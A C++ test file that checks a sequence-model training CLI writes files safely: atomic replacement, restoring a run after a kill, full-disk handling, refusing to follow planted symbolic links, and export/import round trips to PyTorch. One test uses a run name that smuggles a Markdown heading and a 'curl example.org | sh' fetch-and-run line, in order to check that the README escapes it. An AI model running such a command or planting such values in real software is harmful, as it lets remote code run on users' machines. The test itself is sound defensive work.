// Files and runs, round three: no option destroys a run, a text is known by
// its content, and a full disk leaves nothing half-written under a final name.
#include <fcntl.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>
#include "seqgrad_catch.hpp"

#include "../temp_path.h"
#include "run_command.h"

using test::run_seqgrad;
namespace fs = std::filesystem;

namespace {

std::string slurp(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// The files directly in `dir` (not hidden), name -> bytes.
std::map<std::string, std::string> files_in(const fs::path& dir) {
  std::map<std::string, std::string> out;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(dir, ec))
    if (e.is_regular_file() && e.path().filename().string()[0] != '.') out[e.path().filename().string()] = slurp(e);
  return out;
}

const std::string kSmall = " --len 4 --d-model 8 --steps 3 --batch 4 --eval-size 4 ";

}  // namespace

TEST_CASE("an --overwrite replaces a run only when the new one is valid, and a kill before that gives it back",
          "[cli][files]") {
  const std::string root = test::temp_path("files-overwrite"), run = root + "/run";
  fs::remove_all(root);
  REQUIRE(run_seqgrad("train --model transformer --heads 2 --task recall" + kSmall + "--out " + run).exit_code == 0);
  const auto old_run = files_in(run);
  REQUIRE(old_run.size() == 2);  // checkpoint.safetensors, log.csv

  struct Refused {
    std::string args;
    int code;
    std::string says;
  };
  const std::vector<Refused> refused{
      {"train --model transformer --d-model 30 --heads 4", 2, "d_model 30 is not divisible by heads 4"},
      {"train --model transformer --d-model 4096 --layers 64 --heads 4 --batch 4096", 1, "of memory"},
      {"train --task lm --text " + root + "/missing.txt", 2, "cannot read the text file"},
      {"train --model rnn --task copy" + kSmall + "--lr 1e300", 1, "the run --overwrite was to replace is restored"},
  };
  for (const Refused& r : refused) {
    INFO(r.args);
    const auto got = run_seqgrad(r.args + " --out " + run + " --overwrite");
    CHECK(got.exit_code == r.code);
    CHECK(got.err.find(r.says) != std::string::npos);
    CHECK(files_in(run) == old_run);  // byte for byte
    CHECK(!fs::exists(run + "/.replaced"));
  }

  // Killed (SIGKILL: nothing can be cleaned up) after the old run was set aside, before the new one's checkpoint.
  const pid_t pid = fork();
  if (pid == 0) {
    const std::string cmd = std::string("exec '") + SEQGRAD_BINARY +
                            "' train --model gru --task recall --len 4 --d-model 8 --batch 4 --eval-size 4 "
                            "--steps 100000000 --checkpoint-every 0 --out " +
                            run + " --overwrite >/dev/null 2>&1";
    execl("/bin/sh", "sh", "-c", cmd.c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  REQUIRE(pid > 0);
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(120);
  while (!fs::exists(run + "/.replaced/checkpoint.safetensors") && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  std::this_thread::sleep_for(std::chrono::milliseconds(100));  // training
  REQUIRE(kill(pid, SIGKILL) == 0);
  int status = 0;
  REQUIRE(waitpid(pid, &status, 0) == pid);
  CHECK(fs::exists(run + "/.replaced/checkpoint.safetensors"));
  CHECK(!fs::exists(run + "/checkpoint.safetensors"));
  const auto eval = run_seqgrad("eval " + run);
  CHECK(eval.exit_code == 1);
  CHECK(eval.err.find("seqgrad train --resume " + run + " restores the run it was to replace") != std::string::npos);
  const auto restored = run_seqgrad("train --resume " + run);
  CHECK(restored.exit_code == 0);
  CHECK(restored.err.find("the run it was to replace is restored") != std::string::npos);
  CHECK(slurp(run + "/log.csv") == old_run.at("log.csv"));
  CHECK(!fs::exists(run + "/.replaced"));

  // A valid new run replaces the old one, and leaves nothing of it.
  REQUIRE(run_seqgrad("train --model rnn --task recall" + kSmall + "--out " + run + " --overwrite").exit_code == 0);
  CHECK(files_in(run).at("checkpoint.safetensors") != old_run.at("checkpoint.safetensors"));
  CHECK(!fs::exists(run + "/.replaced"));
  CHECK(nlohmann::json::parse(run_seqgrad("eval --json " + run).out)["model"] == "rnn");

  // A fresh run refused before its first step leaves no directory behind (not even its .lock).
  CHECK(run_seqgrad("train --model transformer --d-model 30 --heads 4 --out " + root + "/new").exit_code == 2);
  CHECK(!fs::exists(root + "/new"));
  fs::remove_all(root);
}

TEST_CASE("no output option replaces a run's file, a file beside a run going on, or what the command reads",
          "[cli][files]") {
  const std::string root = test::temp_path("files-outputs"), run = root + "/run";
  fs::remove_all(root);
  fs::create_directories(root);
  std::string text;
  for (int i = 0; i < 40; ++i) text += "the cat sees the dog. the dog sees the cat. ";
  std::ofstream(root + "/corpus.txt") << text;
  REQUIRE(
      run_seqgrad("train --model rnn --task lm --text " + root + "/corpus.txt" + kSmall + "--out " + run).exit_code ==
      0);
  fs::create_directory_symlink(run, root + "/link");
  const auto before = files_in(run);

  struct Case {
    std::string args, says;
  };
  const std::vector<Case> cases{
      {"train --task lm --text " + root + "/corpus.txt --save-grads " + root + "/corpus.txt --out " + root + "/r2",
       "would replace the run's text"},
      {"train --task lm --text " + root + "/corpus.txt --save-grads " + root + "/r2/../corpus.txt --out " + root +
           "/r2",
       "would replace the run's text"},
      {"train --resume " + run + " --save-grads " + run + "/log.csv", "would replace the run's own log.csv"},
      {"grads --csv " + run + "/log.csv", "would replace the log.csv of the run in " + run},
      {"grads --svg " + root + "/link/checkpoint.safetensors", "would replace the checkpoint.safetensors of the run"},
      {"grads --csv " + run + "/../run/.lock", "would replace the .lock of the run"},
      {"grads --checkpoint " + run + " --csv " + root + "/link/log.csv", "would replace the run's own log.csv"},
      {"graph --out " + run + "/checkpoint.safetensors", "would replace the checkpoint.safetensors of the run"},
      {"attention " + run + " --out " + run + "/checkpoint.safetensors", "is a file; name a directory"},
  };
  for (const Case& c : cases) {
    INFO(c.args);
    const auto r = run_seqgrad(c.args);
    CHECK(r.exit_code == 2);
    CHECK(r.err.find(c.says) != std::string::npos);
    CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
  }
  CHECK(files_in(run) == before);
  CHECK(slurp(root + "/corpus.txt") == text);

  // While a run holds its .lock, nothing is written beside it.
  const int fd = ::open((run + "/.lock").c_str(), O_RDWR);
  REQUIRE(fd >= 0);
  REQUIRE(::flock(fd, LOCK_EX | LOCK_NB) == 0);
  for (const std::string& args : {"graph --out " + run + "/graph.dot", "lab pe-shift --svg " + run,
                                  "compare --out " + root + "/link", "grads --svg " + root + "/link/notes.svg"}) {
    INFO(args);
    const auto r = run_seqgrad(args);
    CHECK(r.exit_code == 2);
    CHECK(r.err.find("where a seqgrad run is going on (it holds .lock)") != std::string::npos);
  }
  ::close(fd);
  CHECK(run_seqgrad("graph --out " + run + "/graph.dot").exit_code == 0);  // the run has ended
  CHECK(files_in(run).size() == before.size() + 1);
  fs::remove_all(root);
}

TEST_CASE("a run's text is known by its content and its vocabulary, not by its number of tokens", "[cli][files]") {
  const std::string root = test::temp_path("files-text"), run = root + "/run";
  fs::remove_all(root);
  fs::create_directories(root);
  std::string text;
  for (int i = 0; i < 60; ++i) text += "the quick brown fox jumps over the lazy dog. ";
  std::string renamed = text;  // q -> Ж everywhere: as many distinct characters, numbered otherwise
  for (std::size_t at; (at = renamed.find('q')) != std::string::npos;) renamed.replace(at, 1, "\xD0\x96");
  std::string swapped = text;  // a <-> b: the same characters in the same order, another text
  for (char& c : swapped) c = c == 'a' ? 'b' : c == 'b' ? 'a' : c;
  std::ofstream(root + "/text.txt") << text;
  std::ofstream(root + "/copy.txt") << text;
  std::ofstream(root + "/renamed.txt") << renamed;
  std::ofstream(root + "/swapped.txt") << swapped;
  REQUIRE(run_seqgrad("train --model rnn --task lm --text " + root + "/text.txt" + kSmall + "--out " + run).exit_code ==
          0);
  const std::string checkpoint = slurp(run + "/checkpoint.safetensors");

  // Resumed, a run continues on its own text only, and records nothing of another.
  for (const char* other : {"/renamed.txt", "/swapped.txt"}) {
    const auto r = run_seqgrad("train --resume " + run + " --steps 5 --text " + root + other);
    CHECK(r.exit_code == 1);
    CHECK(r.err.find("is not the one the run was trained on") != std::string::npos);
    CHECK(r.err.find("a run continues on its own text") != std::string::npos);
  }
  CHECK(slurp(run + "/checkpoint.safetensors") == checkpoint);
  // Read for evaluation: another vocabulary is refused, even of the same size; the same one is read, and said.
  const auto renamed_sample = run_seqgrad("sample " + run + " --chars 5 --text " + root + "/renamed.txt");
  CHECK(renamed_sample.exit_code == 1);
  CHECK(renamed_sample.err.find("as many as the run's, but not the same ones in the same order") != std::string::npos);
  const auto swapped_eval = run_seqgrad("eval " + run + " --text " + root + "/swapped.txt");
  CHECK(swapped_eval.exit_code == 0);
  CHECK(swapped_eval.err.find("its vocabulary is the run's, token for token") != std::string::npos);
  const auto copy = run_seqgrad("train --resume " + run + " --steps 5 --text " + root + "/copy.txt");
  CHECK(copy.exit_code == 0);
  CHECK(copy.err.find("the same text it was trained on") != std::string::npos);
  fs::remove_all(root);
}

namespace {

// A small disk: a tmpfs of `free_pages` free 4 KiB pages mounted at `dir` when
// this process may mount one (root), otherwise RLIMIT_FSIZE (each file, not the
// disk, limited to that many bytes). The command runs with its output thrown away.
class SmallDisk {
 public:
  explicit SmallDisk(std::string dir) : dir_(std::move(dir)) {
    fs::create_directories(dir_);
    mountable_ = ::mount("tmpfs", dir_.c_str(), "tmpfs", 0, "size=1m") == 0;
    if (mountable_) ::umount(dir_.c_str());
  }
  ~SmallDisk() {
    if (mounted_) ::umount(dir_.c_str());
  }
  bool mountable() const { return mountable_; }
  // Runs `args` (where DISK stands for the small disk) with `free_pages` pages of room; returns the exit code and
  // stderr.
  std::pair<int, std::string> run(const std::string& args, long free_pages) {
    unmount();
    std::string limit;
    if (mountable_) {
      const std::string options = "size=" + std::to_string((free_pages + 1) * 4096);
      REQUIRE(::mount("tmpfs", dir_.c_str(), "tmpfs", 0, options.c_str()) == 0);
      mounted_ = true;
      std::ofstream(dir_ + "/.ballast") << 'b';  // one page taken: `free_pages` is what is left
    } else {
      fs::remove_all(dir_);
      fs::create_directories(dir_);
      limit = "trap '' XFSZ; ulimit -f " + std::to_string(free_pages * 8) + "; ";  // 512-byte blocks
    }
    std::string line = args;
    for (std::size_t at = 0; (at = line.find("DISK", at)) != std::string::npos; at += dir_.size())
      line.replace(at, 4, dir_);
    // Its stderr through a pipe (a file would be held to the limit too), then its exit code.
    const std::string err = dir_ + "-err";
    std::system(("(" + limit + "'" + SEQGRAD_BINARY + "' " + line + " 2>&1 >/dev/null; echo \"exit=$?\") | cat >" + err)
                    .c_str());
    std::string said = slurp(err);
    const std::size_t at = said.rfind("exit=");
    if (at == std::string::npos) return {-1, said};
    const int code = std::stoi(said.substr(at + 5));
    said.erase(at);
    return {code, said};
  }
  void unmount() {
    if (mounted_) REQUIRE(::umount(dir_.c_str()) == 0);
    mounted_ = false;
  }

 private:
  std::string dir_;
  bool mountable_ = false, mounted_ = false;
};

// Every file under `dir`, path relative to it -> bytes; temporaries included.
std::map<std::string, std::string> tree(const std::string& dir) {
  std::map<std::string, std::string> out;
  std::error_code ec;
  for (const auto& e : fs::recursive_directory_iterator(dir, ec))
    if (e.is_regular_file() && e.path().filename() != ".ballast" && e.path().filename() != ".lock")
      out[fs::relative(e.path(), dir).string()] = slurp(e.path());
  return out;
}

long pages(std::size_t bytes) { return static_cast<long>((bytes + 4095) / 4096); }

}  // namespace

TEST_CASE("a full disk at any write leaves the old file or the whole new one, never a part, and says why",
          "[cli][files]") {
  SmallDisk disk(test::temp_path("files-disk"));
  INFO((disk.mountable() ? "a tmpfs of a few pages" : "RLIMIT_FSIZE (this process may not mount)"));
  // Outputs that come out the same each time: whole or absent, byte for byte, at every write.
  const std::vector<std::string> fixed{"make-data DISK/data", "exercise start softmax-backward --dir DISK/ex",
                                       "exercise start attention --dir DISK/ex", "lab pe-shift --svg DISK/svg"};
  for (const std::string& args : fixed) {
    INFO(args);
    REQUIRE(disk.run(args, 4096).first == 0);
    const auto whole = tree(test::temp_path("files-disk"));
    long total = 0;
    std::vector<long> room{0};  // a write cut in the middle of each file, in the order they are written
    for (const auto& [name, bytes] : whole) total += pages(bytes.size());
    for (long k = 1; k < total; k += std::max(1L, total / 24)) room.push_back(k);
    for (long free_pages : room) {
      INFO(free_pages << " pages free");
      const auto [code, err] = disk.run(args, free_pages);
      if (code != 0)
        CHECK(err.find(disk.mountable() ? "No space left on device" : "File too large") != std::string::npos);
      for (const auto& [name, bytes] : tree(test::temp_path("files-disk"))) {
        INFO(name);
        CHECK(name.find(".tmp") == std::string::npos);
        CHECK(whole.count(name) == 1);
        if (whole.count(name)) CHECK(bytes == whole.at(name));
      }
    }
  }
  // A run: whatever the disk let it write, a checkpoint there loads, and no temporary is left.
  for (long free_pages = 0; free_pages < 12; ++free_pages) {
    INFO(free_pages << " pages free");
    const auto [code, err] =
        disk.run("train --model lstm --task recall" + kSmall + "--checkpoint-every 1 --out DISK/run", free_pages);
    const auto files = tree(test::temp_path("files-disk"));
    for (const auto& [name, bytes] : files) CHECK(name.find(".tmp") == std::string::npos);
    if (code != 0)
      CHECK(err.find(disk.mountable() ? "No space left on device" : "File too large") != std::string::npos);
    if (files.count("run/checkpoint.safetensors"))
      CHECK(run_seqgrad("eval " + test::temp_path("files-disk") + "/run").exit_code == 0);
    if (code == 0) break;
  }
  // The report: each of its files whole.
  for (long free_pages = 0; free_pages < 40; ++free_pages) {
    INFO(free_pages << " pages free");
    const auto [code, err] =
        disk.run("compare --steps 3 --len 4 --d-model 8 --batch 4 --eval-size 4 --out DISK/report", free_pages);
    for (const auto& [name, bytes] : tree(test::temp_path("files-disk"))) {
      INFO(name);
      CHECK(name.find(".tmp") == std::string::npos);
      if (name.ends_with(".json")) CHECK(nlohmann::json::accept(bytes));
      if (name.ends_with(".html")) CHECK(bytes.find("</html>") != std::string::npos);
      if (name.ends_with(".csv")) CHECK((!bytes.empty() && bytes.back() == '\n'));
    }
    if (code == 0) break;
  }
  disk.unmount();
  fs::remove_all(test::temp_path("files-disk"));
  fs::remove(test::temp_path("files-disk") + "-err");
}

TEST_CASE("small ones: answers typed on Windows, a file name with a newline, a locale that is not UTF-8",
          "[cli][files]") {
  // A CRLF answer is the answer (the figures are graded), exit 0 when right.
  const auto crlf = run_seqgrad("lab quadratic-cost --answer \"$(printf '100\\r')\"");
  CHECK(crlf.err.find("not a number") == std::string::npos);
  CHECK(crlf.exit_code <= 3);  // 3: quadratic-cost's times undecided on a busy machine
  CHECK(crlf.exit_code != 2);
  // A file name with a newline stays on its report line.
  const auto newline = run_seqgrad("exercise check attention \"$(printf 'a\\nb.cpp')\"");
  CHECK(newline.exit_code == 1);
  CHECK(newline.out.find("a\\nb.cpp: write the stub first with: seqgrad exercise start attention") !=
        std::string::npos);
  CHECK(std::count(newline.out.begin(), newline.out.end(), '\n') == 1);
  // Korean is spoken in UTF-8 only: an EUC-KR locale gets English, which it can show.
  const std::string english = run_seqgrad("lab --list --lang en").out, korean = run_seqgrad("lab --list --lang ko").out;
  REQUIRE(english != korean);
  ::unsetenv("LC_ALL");
  ::unsetenv("LC_MESSAGES");
  const char* was = std::getenv("LANG");
  const std::string lang = was ? was : "";
  ::setenv("LANG", "ko_KR.EUC-KR", 1);
  CHECK(run_seqgrad("lab --list").out == english);
  ::setenv("LANG", "ko_KR.UTF-8", 1);
  CHECK(run_seqgrad("lab --list").out == korean);
  ::setenv("LANG", "ko_KR.utf8", 1);
  CHECK(run_seqgrad("lab --list").out == korean);
  if (was)
    ::setenv("LANG", lang.c_str(), 1);
  else
    ::unsetenv("LANG");
}

TEST_CASE("export to PyTorch and import back give the run's weights bit for bit, and --overwrite keeps other files",
          "[cli][files]") {
  // PyTorch itself runs each export's check.py in `make test-export`; here, the files and the round trip.
  const fs::path d = test::temp_path("export");
  fs::remove_all(d);
  fs::create_directories(d);
  REQUIRE(run_seqgrad("train --model transformer --tie-qk --pos rope --heads 2 --task recall --len 4 --d-model 8 "
                      "--steps 3 --batch 4 --eval-size 4 --out " +
                      (d / "run").string())
              .exit_code == 0);
  const auto exported = run_seqgrad("export " + (d / "run").string() + " --out " + (d / "pt").string());
  REQUIRE(exported.exit_code == 0);
  CHECK(exported.out.find("check it with: python3 " + (d / "pt").string() + "/check.py") != std::string::npos);
  for (const char* f :
       {"model.py", "weights.safetensors", "batch.safetensors", "check.py", "README.md", "README.ko.md"})
    CHECK(fs::exists(d / "pt" / f));
  const std::string model = slurp(d / "pt" / "model.py");
  CHECK(model.find("k = q  # --tie-qk") != std::string::npos);  // the run's options, in the code
  CHECK(model.find("q, k = rotary(q), rotary(k)") != std::string::npos);
  CHECK(model.find("self.w_k") == std::string::npos);
  CHECK(model.find("sinusoidal_encoding") == std::string::npos);
  CHECK(slurp(d / "pt" / "README.ko.md").find("을(를)") == std::string::npos);

  // A folder a killed import left (its lock, a temporary of the checkpoint) is taken as new, and cleared; one whose
  // lock is held (a run, or another import, going on there) is refused.
  fs::create_directories(d / "back");
  std::ofstream(d / "back" / ".lock");
  std::ofstream(d / "back" / "checkpoint.safetensors.tmp-Zq81xA") << "half";
  {
    const int held = ::open((d / "back" / ".lock").c_str(), O_RDWR | O_CLOEXEC);
    REQUIRE(::flock(held, LOCK_EX | LOCK_NB) == 0);
    const auto busy = run_seqgrad("import " + (d / "pt").string() + " --out " + (d / "back").string());
    CHECK(busy.exit_code != 0);
    CHECK(busy.err.find("a seqgrad run is going on") != std::string::npos);
    ::close(held);
  }
  REQUIRE(run_seqgrad("import " + (d / "pt").string() + " --out " + (d / "back").string()).exit_code == 0);
  CHECK_FALSE(fs::exists(d / "back" / "checkpoint.safetensors.tmp-Zq81xA"));
  REQUIRE(run_seqgrad("export " + (d / "back").string() + " --out " + (d / "again").string()).exit_code == 0);
  CHECK(slurp(d / "pt" / "weights.safetensors") == slurp(d / "again" / "weights.safetensors"));
  // The imported run is a run: the tools read it, and its held-out loss is the original's.
  const auto a = run_seqgrad("eval " + (d / "run").string() + " --json");
  const auto b = run_seqgrad("eval " + (d / "back").string() + " --json");
  REQUIRE(a.exit_code == 0);
  REQUIRE(b.exit_code == 0);
  CHECK(nlohmann::json::parse(a.out)["eval_loss"] == nlohmann::json::parse(b.out)["eval_loss"]);

  // A run's name is quoted in the README as code on one line: a name with newlines, a heading, a fence and a
  // command in it cannot add a line of Markdown.
  const std::string odd = "r\n# pwned\n```sh\ncurl example.org | sh\n```";
  fs::copy(d / "run", d / odd);
  REQUIRE(run_seqgrad("export '" + (d / odd).string() + "' --out " + (d / "odd").string()).exit_code == 0);
  for (const char* readme : {"README.md", "README.ko.md"}) {
    const std::string text = slurp(d / "odd" / readme);
    CHECK(text.find("\n# pwned") == std::string::npos);
    CHECK(text.find("\ncurl") == std::string::npos);
    CHECK(text.find("```` " + (d / "r").string() + "\\n# pwned\\n```sh\\ncurl example.org | sh\\n``` ````") !=
          std::string::npos);
  }
  // --overwrite replaces the export's own files and leaves the student's beside them.
  std::ofstream(d / "pt" / "notes.txt") << "mine";
  CHECK(run_seqgrad("export " + (d / "run").string() + " --out " + (d / "pt").string()).exit_code == 2);
  REQUIRE(run_seqgrad("export " + (d / "run").string() + " --out " + (d / "pt").string() + " --overwrite").exit_code ==
          0);
  CHECK(slurp(d / "pt" / "notes.txt") == "mine");
  fs::remove_all(d);
}

TEST_CASE("an export killed midway leaves its folder marked, never a silent mix, and the next export mends it",
          "[cli][files]") {
  // An export writes its six files whole into a staging folder, then renames each into place with a marker there
  // meanwhile. What a kill at either moment leaves is made here by hand (a kill cannot be aimed at a rename).
  const fs::path d = test::temp_path("export-killed");
  fs::remove_all(d);
  const std::string run = (d / "run").string(), pt = (d / "pt").string();
  REQUIRE(run_seqgrad("train --model rnn --task recall" + kSmall + "--out " + run).exit_code == 0);
  // Killed while writing, the first time: only its staging folder. The folder counts as empty, and the staging goes.
  fs::create_directories(d / "pt" / ".seqgrad-staging-a1B2c3");
  std::ofstream(d / "pt" / ".seqgrad-staging-a1B2c3" / "weights.safetensors") << "half";
  REQUIRE(run_seqgrad("export " + run + " --out " + pt).exit_code == 0);
  CHECK_FALSE(fs::exists(d / "pt" / ".seqgrad-staging-a1B2c3"));
  for (const auto& e : fs::directory_iterator(d / "pt"))
    CHECK_FALSE(e.path().filename().string().starts_with(".seqgrad-"));
  // Killed while moving: the marker. import refuses the folder in one line, check.py stops before PyTorch.
  std::ofstream(d / "pt" / ".seqgrad-export-incomplete") << "stopped\n";
  const auto imported = run_seqgrad("import " + pt + " --out " + (d / "back").string());
  CHECK(imported.exit_code == 1);
  CHECK(imported.err.find("stopped while its files were moved into place") != std::string::npos);
  CHECK(std::count(imported.err.begin(), imported.err.end(), '\n') == 1);
  CHECK_FALSE(fs::exists(d / "back" / "checkpoint.safetensors"));
  if (std::system("command -v python3 > /dev/null 2>&1") == 0) {
    const auto checked = test::run_shell("python3 '" + pt + "/check.py'");
    CHECK(checked.exit_code == 1);
    CHECK(checked.err.find("run seqgrad export again") != std::string::npos);
  }
  // The next export replaces every file and takes the marker away, --overwrite or not (with the marker there, the
  // export's own files are its to replace; so is a temporary of the marker itself); the import then goes through.
  std::ofstream(d / "pt" / ".seqgrad-export-incomplete.tmp-x1Y2z3") << "half";
  REQUIRE(run_seqgrad("export " + run + " --out " + pt).exit_code == 0);
  CHECK_FALSE(fs::exists(d / "pt" / ".seqgrad-export-incomplete"));
  CHECK_FALSE(fs::exists(d / "pt" / ".seqgrad-export-incomplete.tmp-x1Y2z3"));
  std::ofstream(d / "pt" / "notes.txt") << "mine";  // a file of the user's: an export without --overwrite is refused
  CHECK(run_seqgrad("export " + run + " --out " + pt).exit_code == 2);
  CHECK(run_seqgrad("import " + pt + " --out " + (d / "back").string()).exit_code == 0);
  fs::remove_all(d);
}

TEST_CASE("a link planted at a name a writer uses, its temporary's or its own, is never followed", "[cli][files]") {
  const fs::path d = test::temp_path("links");
  fs::remove_all(d);
  fs::create_directories(d);
  const fs::path victim = d / "victim.txt";
  std::ofstream(victim) << "precious";
  const auto plant = [&](const fs::path& at) {
    fs::create_directories(at.parent_path());
    fs::remove(at);
    fs::create_symlink(victim, at);
  };
  // Every name that holds a temporary of write_file: none left after a write that succeeded.
  const auto no_temporary = [&](const fs::path& dir) {
    for (const auto& e : fs::directory_iterator(dir))
      CHECK(e.path().filename().string().find(".tmp-") == std::string::npos);
  };
  struct Case {
    std::vector<std::string> links;  // under d
    std::string args;                // D stands for d
    int code = 0;
  };
  const std::string train = "train --model rnn --task recall" + kSmall;
  const std::vector<Case> cases{
      {{"fresh/log.csv.tmp", "fresh/checkpoint.safetensors.tmp"}, train + "--out D/fresh"},
      {{"run/checkpoint.safetensors.tmp", "run/log.csv.tmp"}, "train --resume D/run --steps 6"},
      {{"over/log.csv", "over/checkpoint.safetensors"}, train + "--out D/over --overwrite"},
      {{"g.dot.tmp"}, "graph --model rnn --steps 3 --out D/g.dot"},
      {{"g.dot"}, "graph --model rnn --steps 3 --out D/g.dot"},
      {{"ex/attention.cpp.tmp"}, "exercise start attention --dir D/ex"},
      {{"pt/weights.safetensors.tmp", "pt/README.md.tmp", "pt/model.py"}, "export D/run --out D/pt --overwrite"},
      {{"back/checkpoint.safetensors.tmp"}, "import D/pt --out D/back", 2},  // a folder with files: refused
      {{"data/toylang.txt.tmp", "data/eval/copy-10.tsv"}, "make-data D/data"},
      {{"gr.svg.tmp", "gr.csv"},
       "grads --models gru --task recall --len 6 --batch 4 --d-model 8 --svg D/gr.svg --csv D/gr.csv"},
      {{"pics/recall-query-row.svg"}, "lab attention-learned --svg D/pics"},
      {{"maps/layer0-head0.svg", "maps/layer0-head1.svg.tmp"}, "attention D/tf --input 'C a b c d ?' --out D/maps"},
      {{"cmp/data.json", "cmp/summary.csv.tmp", "cmp/report.html"},
       "compare --models rnn --task recall --len 4 --steps 2 --batch 4 --d-model 8 --eval-size 4 --out D/cmp"},
  };
  REQUIRE(run_seqgrad(train + "--out " + (d / "run").string()).exit_code == 0);
  REQUIRE(run_seqgrad("train --model transformer --task recall --len 5 --d-model 16 --heads 2 --steps 3 --batch 4 "
                      "--eval-size 4 --out " +
                      (d / "tf").string())
              .exit_code == 0);
  for (const Case& c : cases) {
    INFO(c.args);
    for (const std::string& link : c.links) plant(d / link);
    std::string args = c.args;
    // From where the last replacement ended: the temporary folder's own name may hold "D/".
    for (std::size_t at = 0; (at = args.find("D/", at)) != std::string::npos; at += d.string().size())
      args.replace(at, 1, d.string());
    const auto r = run_seqgrad(args);
    INFO(r.err);
    CHECK(r.exit_code == c.code);
    CHECK(slurp(victim) == "precious");
    for (const std::string& link : c.links) no_temporary((d / link).parent_path());
  }
  // The run's lock is opened, never created through a link: the run is refused in one line, and nothing written.
  plant(d / "locked" / ".lock");
  const auto locked = run_seqgrad(train + "--out " + (d / "locked").string());
  CHECK(locked.exit_code != 0);
  CHECK(locked.err.find("symbolic link") != std::string::npos);
  CHECK(std::count(locked.err.begin(), locked.err.end(), '\n') == 1);
  CHECK(slurp(victim) == "precious");
  // A temporary a killed write left behind is the run's to clear: the next run takes it away.
  std::ofstream(d / "run" / "checkpoint.safetensors.tmp-a1B2c3") << "half";
  REQUIRE(run_seqgrad("train --resume " + (d / "run").string() + " --steps 8").exit_code == 0);
  CHECK_FALSE(fs::exists(d / "run" / "checkpoint.safetensors.tmp-a1B2c3"));
  fs::remove_all(d);
}
